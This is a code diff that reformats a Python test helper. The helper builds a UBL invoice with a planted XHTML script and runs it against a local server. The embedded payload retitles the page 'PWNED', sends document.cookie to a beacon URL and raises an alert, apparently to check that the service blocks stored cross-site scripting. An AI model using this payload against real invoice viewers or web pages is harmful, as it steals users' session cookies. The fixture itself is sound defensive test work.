@@ -10,11 +10,13 @@ BEACON = "http://127.0.0.1:9/planted-beacon"
 
 def planted_invoice(doc_id: str) -> bytes:
     """The sample Invoice with a script that alerts, retitles the page and calls a beacon when it runs."""
-    script = (f'<ext:UBLExtensions xmlns:ext="{EXT}"><ext:UBLExtension><ext:ExtensionContent>'
-              '<h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
-              f"document.title='PWNED';fetch('{BEACON}?'+document.cookie);"
-              f"new Image().src='{BEACON}';alert('planted');"
-              "</h:script></h:div></ext:ExtensionContent></ext:UBLExtension></ext:UBLExtensions>")
+    script = (
+        f'<ext:UBLExtensions xmlns:ext="{EXT}"><ext:UBLExtension><ext:ExtensionContent>'
+        '<h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
+        f"document.title='PWNED';fetch('{BEACON}?'+document.cookie);"
+        f"new Image().src='{BEACON}';alert('planted');"
+        "</h:script></h:div></ext:ExtensionContent></ext:UBLExtension></ext:UBLExtensions>"
+    )
     doc = with_id(INVOICE, doc_id)
     marker = b"<cbc:UBLVersionID>"
     return doc.replace(marker, script.encode() + marker, 1)
@@ -35,11 +37,12 @@ class RealServer:
             s.bind(("127.0.0.1", 0))
             self.port = s.getsockname()[1]
         self.base = f"http://127.0.0.1:{self.port}"
-        config = uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="warning", lifespan="on",
-                                **protocol_options())
+        config = uvicorn.Config(
+            app, host="127.0.0.1", port=self.port, log_level="warning", lifespan="on", **protocol_options()
+        )
         self.server = uvicorn.Server(config)
 
-    def __enter__(self) -> "RealServer":
+    def __enter__(self) -> RealServer:
         import threading
         import time
 
